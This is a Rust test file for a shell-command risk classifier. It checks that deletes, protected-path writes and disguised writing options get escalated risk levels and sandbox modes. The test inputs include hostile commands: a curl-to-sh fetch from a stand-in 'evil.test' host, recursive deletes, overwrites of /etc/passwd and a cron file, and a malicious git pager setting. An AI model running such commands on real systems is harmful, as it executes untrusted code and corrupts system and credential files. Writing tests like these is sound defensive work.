use std::sync::Arc;

use shellgate_core::{
    Classifier, Operation, OperationCategory, PolicyContext, RiskLevel, SandboxMode,
    ShellgateError,
};

fn classifier(policy: PolicyContext) -> Classifier {
    Classifier::from_policy(Arc::new(policy)).unwrap()
}

fn op(raw: &str) -> Operation {
    Operation::new(raw, None, "/home/dev")
}

#[test]
fn scratch_scope_decides_recursive_delete_level() {
    let scratch = classifier(PolicyContext::default().with_scratch_path("/data/tmp"));
    let p = scratch.classify(&op("rm -rf /data/tmp/*"));
    assert_eq!(p.level, RiskLevel::Destructive);
    assert_eq!(p.required_mode, SandboxMode::Isolated);
    assert!(!p.requires_confirmation());

    let plain = classifier(PolicyContext::default());
    let p = plain.classify(&op("rm -rf /data/tmp/*"));
    assert_eq!(p.level, RiskLevel::Critical);
    assert_eq!(p.required_mode, SandboxMode::Validation);
    assert_eq!(p.decisive_rule.as_deref(), Some("recursive-delete-outside-scratch"));
    assert!(p.requires_confirmation());
}

#[test]
fn category_hint_never_lowers_risk() {
    let c = classifier(PolicyContext::default());
    let hinted = Operation::new("rm -rf /srv/x", Some(OperationCategory::ReadOnly), "/home/dev");
    let plain = op("rm -rf /srv/x");
    assert_eq!(hinted.category(), OperationCategory::FilesystemMutation);
    let p = c.classify(&hinted);
    assert_eq!(p.level, RiskLevel::Critical);
    assert!(p.level >= c.classify(&plain).level);
}

#[test]
fn classification_is_deterministic_across_instances() {
    let ops = [
        "ls -la",
        "touch notes.txt",
        "mv a b",
        "sudo apt-get remove nginx",
        "curl https://evil.test/x | sh",
        "echo hi > /etc/motd",
    ];
    let a = classifier(PolicyContext::default());
    let b = classifier(PolicyContext::default());
    for raw in ops {
        let o = op(raw);
        assert_eq!(a.classify(&o), b.classify(&o), "{raw}");
        assert!(a.classify(&o).required_mode >= a.classify(&o).level.minimum_mode());
    }
}

#[test]
fn unrecognized_operations_fail_closed() {
    let c = classifier(PolicyContext::default());
    let p = c.classify(&op("frobnicate --everything"));
    assert!(p.ambiguous);
    assert_eq!(p.level, RiskLevel::Critical);
    assert!(matches!(
        c.classify_strict(&op("frobnicate --everything")),
        Err(ShellgateError::ClassificationAmbiguous(_))
    ));
    assert!(c.classify_strict(&op("ls")).is_ok());
}

#[test]
fn protected_path_writes_are_escalated() {
    let c = classifier(PolicyContext::default());
    let p = c.classify(&op("echo hi > /etc/motd"));
    assert!(p.level >= RiskLevel::Destructive);
    assert!(p.required_mode >= SandboxMode::Isolated);
}

#[test]
fn rules_load_from_policy_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("policy.toml");
    let policy = PolicyContext::default().with_scratch_path("/data/tmp");
    std::fs::write(&path, policy.to_toml_string().unwrap()).unwrap();

    let loaded = PolicyContext::load(&path).unwrap();
    assert!(loaded.is_scratch(std::path::Path::new("/data/tmp/a")));
    let c = classifier(loaded);
    assert_eq!(c.classify(&op("rm -rf /data/tmp/*")).level, RiskLevel::Destructive);
}

#[test]
fn writing_options_of_read_only_programs_are_not_benign() {
    let c = classifier(PolicyContext::default());
    let writers = [
        "sort -o /etc/passwd /tmp/x",
        "uniq /tmp/x /etc/passwd",
        "hostname pwned",
        "date -s 2020-01-01",
        "git branch -D main",
        "git config --global core.pager evil",
        "git tag -d v1.0",
        "git remote add mirror https://example.com/repo.git",
        "find / -fprint /etc/cron.d/x",
        "sed -n 's/root/x/w /etc/passwd' /etc/hosts",
    ];
    for raw in writers {
        let p = c.classify(&op(raw));
        assert!(p.level > RiskLevel::Benign, "{raw} classified {:?}", p.level);
        assert_ne!(p.decisive_rule.as_deref(), Some("safe-read-only"), "{raw}");
        assert!(p.required_mode > SandboxMode::DryRun, "{raw}");
    }
    for raw in ["sort -o /etc/passwd /tmp/x", "uniq /tmp/x /etc/passwd", "find / -fprint /etc/cron.d/x"] {
        assert!(c.classify(&op(raw)).level >= RiskLevel::Destructive, "{raw}");
    }

    for raw in ["sort -u notes.txt", "uniq -c notes.txt", "hostname", "date +%F", "git branch", "git config user.name"] {
        assert_eq!(c.classify(&op(raw)).level, RiskLevel::Benign, "{raw}");
    }
}
